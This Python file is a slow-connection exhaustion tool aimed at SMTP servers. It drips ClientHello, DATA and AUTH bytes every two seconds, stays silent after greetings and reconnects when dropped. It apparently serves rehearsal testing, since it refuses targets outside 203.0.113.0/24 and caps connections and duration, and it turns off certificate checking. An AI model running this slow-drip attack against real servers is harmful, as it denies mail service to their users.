"""Holds as many connections as a server gives, from several addresses of the rehearsal's laptop, and says how many.

The job comes as one line of JSON on standard input, the count goes to standard output each second, and the program ends
with its time, or when it is ended. It attacks nothing but the rehearsal's own addresses (RFC 5737).
"""

import asyncio
import contextlib
import ipaddress
import json
import ssl
import sys
import time

REHEARSAL = ipaddress.ip_network("203.0.113.0/24")
MOST_CONNECTIONS, LONGEST = 2000, 120
DRIP = 2  # seconds between two octets
AGAIN = 0.5  # seconds before a lost connection is tried again: it takes back what it loses


class Count:
    held = most = opened = lost = 0


async def read_reply(reader: asyncio.StreamReader) -> bytes:
    while line := await reader.readline():
        if line[3:4] != b"-":
            return line
    raise ConnectionError("closed")


async def say(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, line: str) -> bytes:
    writer.write(f"{line}\r\n".encode())
    await writer.drain()
    return await read_reply(reader)


async def drip(writer: asyncio.StreamWriter, text: bytes) -> None:
    for octet in text:
        writer.write(bytes([octet]))
        await writer.drain()
        await asyncio.sleep(DRIP)


def hello(host: str) -> bytes:
    """A true ClientHello, as long as it need be to last."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    end = ssl.create_default_context().wrap_bio(incoming, outgoing, server_hostname=host)
    with contextlib.suppress(ssl.SSLWantReadError):
        end.do_handshake()
    return outgoing.read()


async def silent(reader, writer, job):  # type: ignore[no-untyped-def]
    await reader.read(1 << 16)
    if job["port"] != 465:
        await reader.read()  # after the greeting comes only the end


async def handshake(reader, writer, job):  # type: ignore[no-untyped-def]
    if job["port"] != 465:
        await read_reply(reader)
        await say(reader, writer, "EHLO stranger.example.net")
        await say(reader, writer, "STARTTLS")
    await drip(writer, hello(job["name"]))


async def data(reader, writer, job):  # type: ignore[no-untyped-def]
    """A stranger reaches DATA on port 25 alone; elsewhere a command has to do."""
    await read_reply(reader)
    await say(reader, writer, "EHLO stranger.example.net")
    if job["port"] == 25:
        await say(reader, writer, "MAIL FROM:<stranger@example.net>")
        await say(reader, writer, f"RCPT TO:<postmaster@{job['domain']}>")
        await say(reader, writer, "DATA")
        await drip(writer, b"Subject: " + b"slow " * LONGEST)
    else:
        await drip(writer, b"AUTH PLAIN " + b"A" * 500)


KINDS = {"silent": silent, "handshake": handshake, "data": data}


def unchecked() -> ssl.SSLContext:
    """One for all: each loads every authority of the system."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    return context


async def hold(address: str, job: dict, tls: ssl.SSLContext, until: float) -> None:
    wrapped = tls if job["kind"] == "data" and job["port"] == 465 else None
    while time.monotonic() < until:
        writer = None
        try:
            async with asyncio.timeout(until - time.monotonic()):
                patience = {"ssl": wrapped, "ssl_handshake_timeout": LONGEST} if wrapped else {}
                reader, writer = await asyncio.open_connection(
                    job["host"], job["port"], local_addr=(address, 0), **patience
                )
                Count.opened += 1
                Count.held += 1
                Count.most = max(Count.most, Count.held)
                await KINDS[job["kind"]](reader, writer, job)
        except (OSError, TimeoutError, asyncio.IncompleteReadError):
            pass
        finally:
            if writer:
                Count.held -= 1
                Count.lost += 1
                writer.transport.abort()
        await asyncio.sleep(AGAIN)


async def told(until: float) -> None:
    while time.monotonic() < until:
        count = {"held": Count.held, "most": Count.most, "opened": Count.opened, "lost": Count.lost}
        print(json.dumps(count), flush=True)
        await asyncio.sleep(1)


async def main(job: dict) -> None:
    until = time.monotonic() + min(job["seconds"], LONGEST)
    attacks = [{**job, "port": port, "kind": kind} for port in job["ports"] for kind in KINDS]
    each = min(job["each"], MOST_CONNECTIONS // (len(job["addresses"]) * len(attacks)))
    tls = unchecked()
    tasks = [
        hold(address, attack, tls, until) for _ in range(each) for attack in attacks for address in job["addresses"]
    ]
    await asyncio.gather(told(until), *tasks)


if __name__ == "__main__":
    job = json.loads(sys.stdin.readline())
    if ipaddress.ip_address(job["host"]) not in REHEARSAL:
        sys.exit(f"{job['host']} is no address of a rehearsal's: {REHEARSAL} alone is besieged")
    asyncio.run(main(job))
